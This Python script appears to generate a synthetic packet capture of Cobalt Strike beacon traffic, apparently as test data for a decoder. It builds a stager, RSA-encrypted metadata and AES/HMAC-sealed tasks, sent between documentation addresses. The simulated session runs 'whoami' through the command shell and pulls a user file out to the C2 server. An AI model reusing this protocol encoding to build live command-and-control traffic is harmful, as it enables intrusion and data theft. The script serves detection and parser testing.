"""Cobalt Strike's beacon over HTTP as fox-it/dissect.cobaltstrike describes it: a stager's download with a configuration, polls,
tasks, callbacks; keys of our own. RSA and AES are Python's `cryptography`, the key derivation is checked with the pair that
dissect.cobaltstrike and cs-extract-key both publish. build.py CAPTURE KEYFILE: writes the capture, reads the RSA key, prints
messages. The profile: metadata in base64url behind `id=` in a cookie, tasks masked and in base64 between a prefix and a suffix."""
import base64
import hashlib
import hmac
import json
import struct
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent / "record"))
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from exchanges import Web, request, response

AGENT = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"
BID = 1318406
CLIENT, SERVERS = "192.0.2.10", ["198.51.100.20", "203.0.113.20"]
BEFORE, AFTER = b"<!-- page ", b" -->"


def keys(rand):
    both = hashlib.sha256(rand).digest()
    return both[:16], both[16:]


aes, mac = keys(bytes.fromhex("caeab4f452fe41182d504aa24966fbd0"))
assert (aes.hex(), mac.hex()) == ("3342f45e6e2f71f5975c998600b11471", "7142dd70f4ec320badac8ca246a9488f")
RAND = bytes(range(16))
AES, MAC = keys(RAND)


def sealed(plain):
    plain += b"\0" * (-len(plain) % 16)
    cipher = Cipher(algorithms.AES(AES), modes.CBC(b"abcdefghijklmnop")).encryptor()
    data = cipher.update(plain)
    return data + hmac.new(MAC, data, "sha256").digest()[:16]


def tasks(*all):
    body = b"".join(struct.pack(">II", number, len(data)) + data for number, data in all)
    return sealed(struct.pack(">II", 1_700_000_000, len(body)) + body)


def callback(counter, kind, data):
    frame = sealed(struct.pack(">III", counter, len(data) + 4, kind) + data)
    return struct.pack(">I", len(frame)) + frame


def masked(data):
    mask = b"\x11\x22\x33\x44"
    return mask + bytes(octet ^ mask[i % 4] for i, octet in enumerate(data))


def argument(opcode, text):
    return struct.pack(">II", opcode, len(text)) + text


def op(*numbers):
    return b"".join(struct.pack(">I", number) for number in numbers)


def setting(index, kind, value):
    return struct.pack(">HHH", index, kind, len(value)) + value


private = serialization.load_pem_private_key(Path(sys.argv[2]).read_bytes(), None)
public = private.public_key()
numbers = public.public_numbers()


def rsa(plain):
    """RSAES-PKCS1-v1_5 with filling that is always the same."""
    filling = hashlib.sha256(plain).digest() * 4
    filling = bytes(octet or 1 for octet in filling)[: 128 - 3 - len(plain)]
    block = b"\0\2" + filling + b"\0" + plain
    return pow(int.from_bytes(block, "big"), numbers.e, numbers.n).to_bytes(128, "big")


def say(side, topic, text):
    print(json.dumps({"kind": "message", "family": "cobalt-strike", "side": side, "type": topic, "text": text}))


der = public.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
config = setting(1, 1, struct.pack(">H", 0)) + setting(2, 1, struct.pack(">H", 80)) + setting(3, 2, struct.pack(">I", 60000))
config += setting(5, 1, struct.pack(">H", 20)) + setting(7, 3, der.ljust(256, b"\0"))
config += setting(8, 3, b"198.51.100.20,/updates".ljust(256, b"\0")) + setting(9, 3, AGENT.encode().ljust(128, b"\0"))
config += setting(10, 3, b"/submit".ljust(64, b"\0"))
config += setting(11, 3, (op(4, 2, len(BEFORE), 1, len(AFTER), 3, 15)).ljust(256, b"\0"))
config += setting(12, 3, (op(7, 0, 13) + argument(2, b"id=") + argument(6, b"Cookie")).ljust(256, b"\0"))
config += setting(13, 3, (op(7, 0) + argument(5, b"n") + op(7, 1, 4)).ljust(256, b"\0"))
config += setting(37, 2, struct.pack(">I", 305419896)) + b"\0\0"
dll = b"MZ" + b"\x90" * 3000 + bytes(octet ^ 0x2E for octet in config) + bytes(4096)
dll += b"\0" * (-len(dll) % 4)
nonce = b"\x5a\xa5\x0f\xf0"
chained, last = b"", nonce
for at in range(0, len(dll), 4):
    last = bytes(a ^ b for a, b in zip(dll[at : at + 4], last))
    chained += last
size = bytes(a ^ b for a, b in zip(struct.pack("<I", len(dll)), nonce))
stage = b"\xfc\xe8\x00\x00\x00\x00\xeb\x27" + nonce + size + chained
uri = next(f"/{a}{b}{c}{d}" for a in "abc" for b in "JKLM" for c in "xyz" for d in "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ" if sum(map(ord, a + b + c + d)) % 256 == 93)

info = b"\0\0\0\0\x0a\0\0\2" + b"HOST1\tuser\tsample.exe"
meta = RAND + struct.pack(">HHIIHBBBHIII", 1252, 437, BID, 4242, 0, 4, 10, 0, 19045, 0, 0x11, 0x22)
meta += bytes([10, 0, 2, 192])[::1] + b"HOST1\tuser\tsample.exe"
metadata = rsa(struct.pack(">II", 0xBEEF, len(meta)) + meta)
web = Web()


def poll(data=b""):
    server = SERVERS[web.port % 2]
    cookie = "id=" + base64.urlsafe_b64encode(metadata).decode().rstrip("=")
    body = BEFORE + base64.b64encode(masked(data)) + AFTER if data else b""
    web.exchange(CLIENT, server, 80, request("GET", "/updates", server, Accept="*/*", Cookie=cookie, User_Agent=AGENT), response(body))


def post(body):
    server = SERVERS[web.port % 2]
    web.exchange(CLIENT, server, 80, request("POST", f"/submit?n={BID}", server, body, Accept="*/*", User_Agent=AGENT), response(), 1)


web.exchange(CLIENT, SERVERS[0], 80, request("GET", uri, SERVERS[0], User_Agent=AGENT), response(stage, Content_Type="application/octet-stream"))
say("operator", "file_transfer", "a stager got a beacon for 198.51.100.20,/updates port 80, asking every 60000 ms")
poll()
say("implant", "sysinfo", "user@HOST1 sample.exe pid 4242, Windows 10.0.19045")
poll(tasks((4, struct.pack(">II", 5000, 10)), (78, struct.pack(">I", 9) + b"%COMSPEC%" + struct.pack(">I", 10) + b" /C whoami" + b"\0\0")))
say("operator", "control", "sleep 5000 ms, jitter 10 %")
say("operator", "shell", "run %COMSPEC%  /C whoami")
post(callback(1, 30, b"host1\\user\r\n"))
say("implant", "shell", "host1\\user")
poll(tasks((11, b"C:\\Users\\user\\plan.txt")))
say("operator", "file_transfer", "download C:\\Users\\user\\plan.txt")
post(callback(2, 2, struct.pack(">II", 7, 5) + b"C:\\Users\\user\\plan.txt") + callback(3, 8, struct.pack(">I", 7) + b"hello"))
say("implant", "file_transfer", "file C:\\Users\\user\\plan.txt, 5 bytes")
say("implant", "file_transfer", "file data 9 bytes")
poll()
say("implant", "beacon", "polled 4 times in 182 s, got tasks 2 times, sent 3 frames; 0 bodies stay closed")
web.write(sys.argv[1])
